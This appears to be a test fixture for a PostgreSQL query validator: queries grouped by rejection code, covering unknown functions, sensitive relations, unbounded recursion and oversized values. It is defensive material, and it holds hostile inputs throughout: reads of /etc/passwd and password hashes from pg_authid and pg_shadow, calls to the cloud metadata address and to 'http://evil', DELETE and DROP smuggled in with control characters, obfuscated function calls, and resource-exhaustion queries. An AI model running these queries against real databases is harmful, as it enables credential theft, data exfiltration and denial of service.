SELECT * FROM dblink_get_connections()
SELECT postgres_fdw_disconnect_all()
SELECT pg_stat_get_wal_senders(), http_get('http://169.254.169.254/latest/meta-data')
SELECT content FROM http(('GET','http://x',NULL,NULL,NULL)::http_request)
SELECT set_config('search_path', 'evil', true)
SELECT pg_catalog.set_config('statement_timeout', '0', false)
SELECT current_setting('work_mem'), set_config('transaction_read_only','off',false)
SELECT set_config(name, setting, false) FROM pg_settings
SELECT setseed(0.5), set_config('a.b','1',true)
EXPLAIN (ANALYZE, SERIALIZE) SELECT nextval('order_no_seq')
EXPLAIN SELECT pg_read_file('/etc/passwd')
EXPLAIN (GENERIC_PLAN, ANALYZE) SELECT * FROM orders WHERE id = setval('order_no_seq', 9)
SELECT U&"\0070g_sleep"(1)
SELECT "pg_sleep" (1)
SELECT pg_catalog . pg_sleep ( 1 )
SELECT pg_catalog/**/./**/pg_sleep/**/(1)
SELECT nextval(U&'order!005fno!005fseq' UESCAPE '!')
SELECT E'\x41', nextval(E'order\137no_seq')
SELECT nextval($$order_no_seq$$)
SELECT nextval($a$order_no_seq$a$::regclass)
SELECT * FROM customers WHERE name COLLATE evil.c = 'x' AND pg_sleep(1) IS NULL
SELECT * FROM orders LIMIT (SELECT nextval('order_no_seq'))
SELECT * FROM orders OFFSET pg_sleep(1)::text::int
SELECT * FROM orders FETCH FIRST (nextval('order_no_seq')) ROWS ONLY
SELECT sum(total) OVER w FROM orders WINDOW w AS (PARTITION BY pg_advisory_lock(id))
SELECT count(*) FROM orders GROUP BY GROUPING SETS ((id), (nextval('order_no_seq')))
SELECT count(*) FROM orders GROUP BY CUBE (pg_sleep(0)::text)
SELECT (ARRAY[1,2])[nextval('order_no_seq')]
SELECT (ARRAY[1,2])[1:nextval('order_no_seq')]
SELECT jsonb '{"a":1}' -> nextval('order_no_seq')::int
SELECT ROW(1, nextval('order_no_seq'))
SELECT GREATEST(1, nextval('order_no_seq'))
SELECT nextval('order_no_seq') IS DISTINCT FROM 1
SELECT 1 BETWEEN nextval('order_no_seq') AND 3
SELECT nextval('order_no_seq') IN (1,2)
SELECT (nextval('order_no_seq'))::text COLLATE "C"
SELECT nextval('order_no_seq') AT TIME ZONE 'UTC'
SELECT xmlelement(name a, nextval('order_no_seq'))
SELECT xmlforest(pg_read_file('/x') AS b)
SELECT xmlserialize(content xmlelement(name a, pg_read_file('/x')) AS text)
SELECT json_object('a': nextval('order_no_seq'))
SELECT json_arrayagg(nextval('order_no_seq')) FROM orders
SELECT json_objectagg(status: pg_sleep(1)::text) FROM orders
SELECT JSON(pg_read_file('/x')), JSON_SCALAR(1)
SELECT json_value('{}', '$' PASSING nextval('order_no_seq') AS x)
SELECT json_value('{}', '$.a' DEFAULT nextval('order_no_seq') ON EMPTY)
SELECT * FROM JSON_TABLE(pg_read_file('/x')::jsonb, '$[*]' COLUMNS (a int PATH '$.a'))
SELECT * FROM JSON_TABLE('[]'::jsonb, '$[*]' PASSING pg_sleep(1)::text AS x COLUMNS (a int PATH '$.a'))
SELECT * FROM XMLTABLE(pg_read_file('/x') PASSING '<a/>' COLUMNS a int)
WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + nextval('order_no_seq')::int FROM t WHERE n < 3) SELECT * FROM t
SELECT * FROM unnest(ARRAY[nextval('order_no_seq')]) u
SELECT * FROM generate_series(1, nextval('order_no_seq')) g
SELECT * FROM orders JOIN customers ON nextval('order_no_seq') > 0
SELECT CASE WHEN nextval('order_no_seq') > 0 THEN 1 END
SELECT CASE 1 WHEN nextval('order_no_seq') THEN 1 ELSE 2 END
SELECT NOT EXISTS (SELECT 1 WHERE nextval('order_no_seq') > 0)
SELECT format('%s', nextval('order_no_seq'))
SELECT concat(VARIADIC ARRAY[pg_read_file('/x')])
SELECT EXTRACT(year FROM (SELECT now() WHERE pg_sleep(1) IS NOT NULL))
SELECT normalize(pg_read_file('/x'), NFC)
SELECT pg_read_file('/x') LIKE '%root%'
SELECT 'a' SIMILAR TO pg_read_file('/x')
SELECT (pg_read_file('/x'), 1) OVERLAPS (1, 2)
SELECT * FROM orders TABLESAMPLE BERNOULLI (nextval('order_no_seq'))
SELECT mode() WITHIN GROUP (ORDER BY pg_sleep(0.1)::text) FROM orders
SELECT rank(nextval('order_no_seq')) WITHIN GROUP (ORDER BY id) FROM orders
SELECT table_to_xml('customers', true, true, '')
SELECT query_to_xmlschema('DELETE FROM orders', true, true, '')
SELECT database_to_xml_and_xmlschema(true,true,'')
SELECT schema_to_xmlschema('public', true, true, '')
SELECT xpath('/row/a/text()', query_to_xml('SELECT pg_sleep(1)', true, true, ''))
SELECT ts_rewrite('a'::tsquery, 'SELECT t, s FROM aliases')
SELECT * FROM ts_stat('SELECT search FROM products')
SELECT * FROM connectby('employees','id','manager_id','1',0) AS t(a int, b int, c int)
SELECT * FROM crosstab2('SELECT 1')
SELECT xpath_table('id','xml','orders','/a','true')
SELECT * FROM heap_page_items(get_raw_page('pg_authid', 0))
SELECT * FROM pg_get_wal_records_info('0/0', '0/1')
SELECT pg_stat_get_activity(NULL), dblink_disconnect()
SELECT setting FROM pg_settings WHERE name = 'primary_conninfo' AND pg_sleep(1) IS NULL
SELECT pg_catalog.pg_read_file('x'::text)
SELECT (VALUES (nextval('order_no_seq')))
SELECT 1 FROM orders GROUP BY ROLLUP((nextval('order_no_seq'), 1))
SELECT 1 ORDER BY nextval('order_no_seq') DESC NULLS FIRST
SELECT * FROM orders WHERE (id, nextval('order_no_seq')) = (1, 1)
SELECT * FROM orders WHERE id = ANY (ARRAY(SELECT nextval('order_no_seq')))
SELECT * FROM orders WHERE id IN (1, nextval('order_no_seq'))
SELECT * FROM orders o JOIN LATERAL pg_notify('a', o.notes) ON true
SELECT * FROM orders o, pg_notify('a', o.notes)
SELECT * FROM (orders o CROSS JOIN pg_ls_dir('.') d)
SELECT * FROM ROWS FROM (pg_ls_dir('.')) AS x
SELECT * FROM ROWS FROM (json_to_record('{}') AS (a int), pg_ls_dir('.')) AS x
SELECT * FROM json_to_record(pg_read_file('x')::json) AS x(a int)
SELECT make_interval(hours => (SELECT nextval('order_no_seq')::int))
SELECT make_interval(secs := pg_sleep(1)::text::int)
SELECT concat(VARIADIC (SELECT array_agg(pg_ls_dir) FROM pg_ls_dir('.')))
SELECT count(DISTINCT nextval('order_no_seq')) FROM orders
SELECT sum(total) OVER (ORDER BY nextval('order_no_seq')) FROM orders
SELECT sum(nextval('order_no_seq')) OVER () FROM orders
SELECT lag(total, nextval('order_no_seq')::int) OVER (ORDER BY id) FROM orders
SELECT jsonb_path_query(payload, '$', pg_read_file('x')::jsonb) FROM events
SELECT (payload)[pg_read_file('x')] FROM events
SELECT payload['a'][nextval('order_no_seq')::text] FROM events
SELECT CASE status WHEN pg_read_file('x') THEN 1 ELSE nextval('order_no_seq') END FROM orders
SELECT COALESCE((SELECT pg_sleep(1))::text, 'x')
SELECT NULLIF(pg_sleep(1)::text, '')
SELECT EXTRACT(pg_sleep FROM now())::int, pg_sleep(1)
SELECT (nextval('order_no_seq'))
SELECT ((((nextval('order_no_seq')))))
SELECT +nextval('order_no_seq')
SELECT NOT (nextval('order_no_seq') > 0)
SELECT xmlpi(name x, pg_read_file('x'))
SELECT xmlroot(pg_read_file('x')::xml, version '1.0')
SELECT pg_read_file('x') IS DOCUMENT
SELECT JSON_SERIALIZE(pg_read_file('x'))
SELECT JSON_ARRAY(SELECT nextval('order_no_seq'))
SELECT JSON_OBJECTAGG(nextval('order_no_seq'): 1) FROM orders
SELECT GROUPING(nextval('order_no_seq')) FROM orders GROUP BY 1
SELECT CURRENT_TIMESTAMP, pg_sleep(1)
SELECT COLLATION FOR (pg_read_file('x'))
SELECT (1, pg_read_file('x')) IS NULL
SELECT SYSTEM_USER, pg_reload_conf()
WITH RECURSIVE t AS (SELECT nextval('order_no_seq') n UNION SELECT n FROM t) SEARCH BREADTH FIRST BY n SET o SELECT * FROM t
SELECT name, setting FROM pg_show_all_settings()
EXPLAIN ANALYZE SELECT lo_unlink(1)
EXPLAIN VALUES (nextval('order_no_seq'))
EXPLAIN (ANALYZE 'true') SELECT set_config('a.b','c',false)
SELECT pg_get_object_address('table', '{orders}', '{}'), pg_notify('x','y')
SELECT information_schema.pg_sleep(1)
SELECT pg_describe_object(1,1,1), pg_stat_reset()
SELECT pg_relation_filenode('orders'), pg_truncate_visibility_map('orders')
SELECT heap_force_freeze('orders'::regclass, ARRAY['(0,1)']::tid[])
SELECT http_post('http://x', 'a', 'b')
SELECT create_hypertable('orders', 'placed_at')
SELECT add_retention_policy('orders', interval '1 day')
SELECT lo_export(lo_import('/etc/passwd'), '/tmp/x')
SELECT has_table_privilege('orders','select'), pg_export_snapshot()
SELECT xpath_nodeset.x FROM xpath_table('id','notes','orders','/a','true') AS xpath_nodeset(id int, x text)
SELECT crosstab('SELECT 1,2,3')
SELECT * FROM crosstab3('DELETE FROM orders')
SELECT dblink_current_query(), dblink_is_busy('c')
SELECT dblink_cancel_query('c')
SELECT set_limit(0.3)
SELECT crypt('x', gen_salt('bf', 31)), set_limit(0.1)
SELECT jsonb_build_object('a', (SELECT (SELECT (SELECT pg_sleep(1)))))
EXPLAIN (ANALYZE, TIMING off) SELECT pg_advisory_lock(1)

-- code: function_unknown
SELECT app.promote(VARIADIC ARRAY[1])
SELECT sum(1) FILTER (WHERE lower_it(name) = 'x') FROM customers
SELECT * FROM ROWS FROM (app.promote(1), generate_series(1, 2)) x
SELECT * FROM customers FETCH FIRST (app.promote(1)) ROWS ONLY
SELECT app.promote(1)
SELECT lower_it('X')
SELECT public.lower_it('X')
SELECT * FROM reporting.refresh_cache()
SELECT no_such_function(1)
SELECT public.lower('X')
SELECT "public"."sum"(1)
SELECT app.count(1)
SELECT app.count(*) FROM orders
SELECT shop.pg_catalog.lower('X')
SELECT shop.pg_catalog.pg_sleep(1)
SELECT net.http_post('http://evil', '{}')
SELECT information_schema.lower('x')
SELECT touch_row(o) FROM orders o
SELECT EXTRACT(epoch FROM app.promote(1))
SELECT o FROM orders o ORDER BY app.promote(o.id)
SELECT app.promote(id) FROM employees
SELECT pg_set_attribute_stats('relation', 'orders'::regclass)
SELECT * FROM postgres_fdw_get_connections()
SELECT aws_s3.query_export_to_s3('SELECT 1', 'b','k')
EXPLAIN SELECT app.promote(1)
SELECT touch_row(o.*) FROM orders o
SELECT promote(1)
SELECT public.lower_it(name) FROM customers
SELECT reporting.refresh_cache()
SELECT * FROM ROWS FROM (reporting.refresh_cache(), generate_series(1,2)) AS t
SELECT * FROM app.promote(1) WITH ORDINALITY
SELECT 1 FROM orders WHERE app.promote(customer_id::int) > 0
SELECT app.sum(total) FROM orders
SELECT public.count(*) FROM orders
SELECT app.row_number() OVER () FROM orders
SELECT mood('low')
SELECT public.mood('low')
SELECT customers('x')
SELECT max(total) FILTER (WHERE app.promote(1) = 1) FROM orders
SELECT pbkdf('x')
SELECT crypt('x', gen_salt('bf', 31))
WITH w(o) AS (SELECT orders FROM orders) SELECT touch_row(o) FROM w
SELECT f(a => nextval('order_no_seq'))
SELECT lower_it(name) OVER () FROM customers
SELECT public.max(id) FROM orders
SELECT pg_catalog.promote(1)
SELECT pg_temp.f()
SELECT "PG_SLEEP"(1), pg_sleep(1)
SELECT cases.public.lower_it('x')
SELECT 1 FROM cases.app.promote(1)
SELECT amcheck_.bt_index_check('x'::regclass)
SELECT bt_index_check('orders_pkey'::regclass)
SELECT pg_surgery_.heap_force_kill('orders', ARRAY['(0,1)']::tid[])
SELECT pgp_sym_encrypt(name, repeat('x', 100000000)) FROM customers
SELECT plpy_execute('x')
SELECT pg_background_launch('DELETE FROM orders')
SELECT pglogical.replicate_ddl_command('DROP TABLE orders')
SELECT repack.repack_apply('a','b','c','d','e',1)
SELECT timescaledb_pre_restore()
SELECT partman.run_maintenance()
SELECT pgmq.send('q', '{}')
SELECT graphql.resolve('mutation { x }')
SELECT vault.create_secret('x')
SELECT auth.uid()
SELECT crosstab_hash('a','b')
SELECT xml_valid('<a/>'), xslt_process('<a/>','x')
SELECT pgp_pub_decrypt('x','y')
SELECT dblink_fdw_validator('{}', 0)
SELECT similarity_op('a','b'), nextval('order_no_seq')
SELECT gin_extract_value_trgm('a', NULL)

-- code: attribute_call
SELECT array_agg(o.touch_row) FROM orders o
WITH o AS (SELECT orders FROM orders) SELECT (o.orders).touch_row FROM o
SELECT (SELECT r FROM orders r LIMIT 1).touch_row
SELECT o.touch_row FROM orders o
SELECT orders.touch_row FROM orders
SELECT public.orders.touch_row FROM public.orders
SELECT (o).touch_row FROM orders o
SELECT ((o)).touch_row FROM orders o
SELECT (SELECT o).touch_row FROM orders o
SELECT id FROM orders o ORDER BY o.touch_row
SELECT count(*) FROM orders o GROUP BY o.touch_row
SELECT * FROM orders o WHERE o.touch_row > 0
SELECT s.touch_row FROM (SELECT * FROM orders) s
SELECT x.touch_row FROM orders AS x(a, b)
WITH orders AS (SELECT * FROM orders) SELECT orders.touch_row FROM orders
SELECT (SELECT o.touch_row) FROM orders o
SELECT * FROM orders o, LATERAL (SELECT o.touch_row) s
SELECT ('/etc/hostname'::text).pg_read_file
SELECT ('order_no_seq'::regclass).nextval
SELECT (1::bigint).pg_advisory_lock
SELECT (1.0::float8).pg_sleep
SELECT ($1).pg_read_file
SELECT (total::float8).pg_sleep FROM orders
SELECT (ARRAY[1.0::float8])[1].pg_sleep
SELECT (CASE WHEN true THEN 'x' END).pg_read_file
SELECT ('dbname=shop'::text).dblink_connect
SELECT ('x'::text).evil_function
SELECT c.pg_sleep FROM customers c
SELECT o.no_such_column FROM orders o
SELECT (s).subconninfo FROM pg_subscription s
SELECT m.pg_sleep FROM (SELECT 1::float8) m
SELECT d.pg_sleep FROM generate_series(1, 2) d
SELECT n.lower_it FROM (VALUES ('x')) n(a)
SELECT (o).touch_row FROM orders AS o
SELECT o.id FROM orders o WHERE o.touch_row > 0
SELECT max((5.0::float8).pg_sleep::text)
SELECT o.touch_row FROM orders AS o
SELECT (orders).touch_row FROM orders
SELECT s.touch_row FROM (SELECT o FROM orders o) s(touch), orders s2
SELECT (s.o).touch_row FROM (SELECT o FROM orders o) s
SELECT ('/etc/passwd').pg_read_file
SELECT ('/etc/passwd'::text).pg_read_file
SELECT (ROW(1)).pg_sleep
SELECT (0.5::float8).pg_sleep
SELECT (SELECT 'order_no_seq'::regclass).nextval
SELECT ((ARRAY['order_no_seq'::regclass])[1]).nextval
SELECT (x.c).nextval FROM (SELECT 'order_no_seq'::regclass AS c) x
SELECT x.lo_unlink FROM (VALUES (1::oid)) x(oid)
SELECT (oid).lo_unlink FROM pg_largeobject_metadata
SELECT (customer_id).pg_advisory_lock FROM orders
SELECT (name).pg_read_file FROM customers
SELECT customers.lower_it FROM customers
SELECT (c.name).lower_it FROM customers c
SELECT c FROM customers c WHERE (c.id).pg_advisory_xact_lock IS NULL
SELECT (generate_series(1,3)::bigint).pg_advisory_lock
SELECT (pid).pg_terminate_backend FROM pg_stat_activity
SELECT sum(o.touch_row) OVER () FROM orders o
SELECT * FROM orders o JOIN customers c ON o.touch_row = c.id
SELECT (SELECT x.pg_read_file FROM (SELECT '/etc/passwd'::text) AS x)
SELECT u.pg_terminate_backend FROM unnest(ARRAY[1,2]) u
SELECT json_agg(x.nextval) FROM unnest(ARRAY['order_no_seq']::regclass[]) x
SELECT t.lo_get FROM generate_series(16400,16410) AS t
SELECT r.dblink FROM string_to_table('a;b',';') AS r
SELECT s.query_to_xml FROM unnest(ARRAY['SELECT 1']) s
SELECT (c.o).touch_row FROM (SELECT orders AS o FROM orders) c
WITH w AS (SELECT 'order_no_seq'::regclass AS s) SELECT (w.s).nextval FROM w
WITH w AS (SELECT orders FROM orders) SELECT (orders).touch_row FROM w
SELECT array_agg((o).touch_row) FROM orders o
SELECT (array_agg(o))[1].touch_row FROM orders o
SELECT ((array_agg(o))[1]).touch_row FROM orders o
SELECT x.crosstab FROM unnest(ARRAY['SELECT 1']) x
SELECT y.xslt_process FROM string_to_table('a', ',') y
SELECT c.dblink_connect_u FROM unnest(tags) c, customers
SELECT (c).dblink_exec FROM customers, unnest(tags) AS c
SELECT d.lo_import FROM string_to_table('/etc/passwd', ',') d
SELECT t.f FROM ROWS FROM (unnest(ARRAY['x']), generate_series(1,2)) AS t(pg_read_file, f) WHERE t.dblink_exec IS NULL
SELECT u.gen_salt FROM unnest(ARRAY['bf']) u
SELECT max(q.pg_read_file) FROM regexp_split_to_table('/a /b', ' ') q
SELECT q.* FROM regexp_split_to_table('a', 'b') q WHERE q.pg_ls_dir IS NOT NULL
SELECT q FROM unnest(ARRAY['a']) q ORDER BY q.pg_read_binary_file
SELECT k.key.pg_read_file FROM jsonb_each('{}') k
SELECT (k.key).pg_read_file FROM jsonb_each_text('{}') k
SELECT (k).value.nextval FROM jsonb_each_text('{}') k
SELECT (unnest(ARRAY['order_no_seq'::regclass])).nextval
SELECT (regexp_split_to_table('a','b')).drop_thing
SELECT mode() WITHIN GROUP (ORDER BY o.touch_row) FROM orders o
SELECT json_agg(o.touch_row ORDER BY 1) FILTER (WHERE o.id > 3) FROM orders o
SELECT row_number() OVER (ORDER BY o.touch_row) FROM orders o
SELECT * FROM orders o WHERE o.touch_row BETWEEN 1 AND 2
SELECT * FROM orders o WHERE (o).touch_row = ANY (ARRAY[1])
SELECT * FROM (TABLE orders) o WHERE o.touch_row = 1
WITH o AS (TABLE orders) SELECT o.touch_row FROM o
SELECT l.t FROM orders o, LATERAL (SELECT o.touch_row AS t) l
SELECT cases15.public.orders.touch_row FROM orders

-- code: operator_unknown
SELECT 1 OPERATOR(app.+) 2
SELECT 1 OPERATOR(public.+) 2
SELECT 1 <#> 2
SELECT 1 @#@ 2
SELECT id FROM orders ORDER BY id USING OPERATOR(app.<<<)
SELECT 1 OPERATOR(app.=) ANY (ARRAY[1])
SELECT 1 OPERATOR(app.=) ANY (SELECT 1)
SELECT (1, 2) OPERATOR(app.<) (3, 4)
SELECT total OPERATOR(reporting.@) 1 FROM orders
SELECT 1 OPERATOR(public.<#>) 2
SELECT 'a' OPERATOR(public.=) 'b'
SELECT 1 OPERATOR(evil.+) 1
SELECT 1 === 1
SELECT @-@ path '((0,0),(1,1))', 1 <-?-> 2
SELECT name <#=> 'x' FROM customers

-- code: type_unknown
SELECT 'x'::app.secret
SELECT 'x'::app.no_such_type
SELECT 'x'::no_such_type
SELECT CAST(o AS app.no_such_type) FROM orders o
SELECT '1'::app.cast_by_function
SELECT * FROM json_to_recordset('[]') AS t(a app.no_such_type)
SELECT * FROM XMLTABLE('/a' PASSING '<a/>' COLUMNS a app.no_such_type PATH 'a')
SELECT json_value('{}', '$' RETURNING app.no_such_type)
SELECT json_serialize('{}' RETURNING app.no_such_type)
SELECT xmlserialize(content '<a/>' AS app.no_such_type)
SELECT 'x'::app.no_such_type[]
SELECT app.no_such_type '1'
SELECT '1'::app.weird
SELECT CAST('x' AS evil.mytype)
SELECT 'x'::public.nothing_such
SELECT '1'::app.nothing[]
SELECT NULL::pg_temp.t
SELECT 'x'::regclass::evil
SELECT * FROM json_populate_record(NULL::app.nothing, '{}')
SELECT 'x'::dblink_pkey_results

-- code: sampling_unknown
SELECT * FROM orders TABLESAMPLE app.method (5)
SELECT * FROM orders TABLESAMPLE system_rows (5)
SELECT * FROM orders TABLESAMPLE tsm_evil(1)

-- code: relation_sensitive
SELECT * FROM pg_authid
SELECT rolname FROM pg_catalog.pg_authid
TABLE pg_authid
SELECT * FROM pg_shadow
SELECT usename FROM pg_shadow
SELECT umoptions FROM pg_user_mapping
SELECT umoptions FROM pg_user_mappings
SELECT * FROM pg_user_mappings
SELECT subconninfo FROM pg_subscription
SELECT * FROM pg_subscription
SELECT s FROM pg_subscription s
SELECT row_to_json(s) FROM pg_subscription s
SELECT s.* FROM pg_subscription s
SELECT a.e FROM pg_subscription a(a, b, c, d, e)
SELECT * FROM information_schema.user_mapping_options
SELECT data FROM pg_largeobject
SELECT * FROM pg_statistic
SELECT * FROM pg_hba_file_rules
SELECT * FROM pg_ident_file_mappings
SELECT * FROM pg_file_settings
SELECT * FROM pg_toast.pg_toast_1234
WITH pg_authid AS (SELECT * FROM pg_authid) SELECT * FROM pg_authid
SELECT * FROM orders WHERE EXISTS (SELECT FROM pg_authid)
SELECT usename, passwd FROM pg_shadow
SELECT rolpassword FROM pg_catalog.pg_authid
SELECT a.* FROM (TABLE pg_authid) a
SELECT rolpassword FROM pg_authid
SELECT * FROM pg_catalog.pg_shadow
SELECT usename, passwd FROM pg_shadow WHERE passwd IS NOT NULL
SELECT (SELECT a FROM pg_authid a LIMIT 1)
SELECT row_to_json(a) FROM pg_authid a
SELECT srvoptions FROM pg_foreign_server
SELECT subname, subconninfo FROM pg_catalog.pg_subscription
SELECT loid, data FROM pg_largeobject
SELECT stavalues1 FROM pg_statistic
SELECT * FROM pg_statistic_ext_data
SELECT conninfo FROM pg_stat_wal_receiver, pg_authid
SELECT * FROM "pg_catalog"."pg_authid"
SELECT 1 FROM orders NATURAL JOIN pg_authid
SELECT * FROM pg_toast.pg_toast_1260
SELECT EXISTS (SELECT 1 FROM pg_authid WHERE rolpassword LIKE 'md5a%')
WITH pg_x AS (SELECT * FROM pg_authid) SELECT * FROM pg_x
TABLE pg_shadow
TABLE pg_catalog.pg_authid LIMIT 1
SELECT rolpassword FROM (SELECT * FROM pg_authid) x
SELECT a.rolname FROM pg_authid a
SELECT (pg_authid).rolpassword FROM pg_authid
SELECT pg_authid FROM pg_authid
SELECT count(*) FROM pg_authid
SELECT umoptions::text FROM pg_user_mappings
SELECT u.* FROM pg_user_mappings u
SELECT to_jsonb(u) FROM pg_user_mappings u
SELECT * FROM pg_stat_wal_receiver w JOIN pg_subscription s ON true
SELECT array_agg(s) FROM pg_subscription s
SELECT row_to_json(f) FROM pg_foreign_server f
SELECT option_value FROM information_schema.foreign_server_options
SELECT pg_options_to_table(srvoptions) FROM pg_foreign_server
SELECT stavalues1::text FROM pg_statistic
SELECT data FROM pg_largeobject WHERE loid = 1
SELECT * FROM pg_toast.pg_toast_16385

-- code: setting_sensitive
SHOW primary_conninfo
SHOW TABLES
SELECT current_setting('primary_conninfo')
SHOW ssl_passphrase_command
SELECT current_setting('Primary_Conninfo')
SELECT current_setting('primary_' || 'conninfo')
SELECT current_setting(name) FROM pg_settings
SHOW tables
SHOW DATABASES

-- code: relation_foreign
SELECT * FROM remote_orders

-- code: view_refused
SELECT * FROM naps
SELECT * FROM of_naps
SELECT * FROM hashes
SELECT * FROM promoted

-- code: unbounded
WITH RECURSIVE n AS (SELECT 1 AS i UNION ALL SELECT i + 1 FROM n) SELECT count(*) FROM n
WITH RECURSIVE n AS (SELECT 1 AS i UNION ALL SELECT i + 1 FROM n) SELECT * FROM n WHERE i < 5
SELECT (WITH RECURSIVE n AS (SELECT 1 AS i UNION ALL SELECT i + 1 FROM n) SELECT max(i) FROM n)
WITH RECURSIVE f(n) AS (SELECT 1 UNION ALL SELECT n * 2 % 7 FROM f) SELECT count(*) FROM f
WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t) SELECT count(*) FROM t
WITH RECURSIVE t(s) AS (SELECT 'x' UNION ALL SELECT s || s FROM t) SELECT max(length(s)) FROM t

-- code: value_too_large
SELECT repeat('x', 1073741800)
SELECT repeat('abcdefghij', 2000000)
SELECT repeat('x', 1000 * 1000 * 1000)
SELECT repeat('x', 1e9::int)
SELECT lpad('x', 1000000000)
SELECT rpad('x', 1000000000, 'y')
SELECT array_fill(0, ARRAY[100000, 100000])
SELECT length(repeat('x', 2^30::int))
SELECT count(*) FROM generate_series(1, 2000000000)
SELECT lpad('x', 1000000000, 'y')
SELECT rpad('', 900000000, 'z')
SELECT repeat(repeat('x', 100000), 100000)
SELECT length(repeat('x', 1000000000))
SELECT repeat(name, 100000000) FROM customers
SELECT array_fill(0, ARRAY[100000000])
SELECT array_fill(1::bigint, ARRAY[20000, 20000])
SELECT format('%1000000000s', 'x')
SELECT generate_series(1, 10000000000)
SELECT bit_count(('x' || repeat('f', 500000000))::bit varying)
SELECT sum(a.i) FROM generate_series(1,1e10) a(i)
SELECT format('%*s', 2000000000, 'x')
SELECT format('%1$-900000000s', 'x')
SELECT repeat('ab', 500) || repeat('x', 900000000)
SELECT string_agg('x', lpad('', 500000000)) FROM orders
SELECT array_fill(repeat('x', 1000), ARRAY[1000000000])
SELECT format('%2$*1$s', 1500000000, 'x')
SELECT lpad(name, 2000000000) FROM customers

-- code: control_characters
SELECT 1‮ ; DELETE FROM orders
DROP⁠TABLE orders
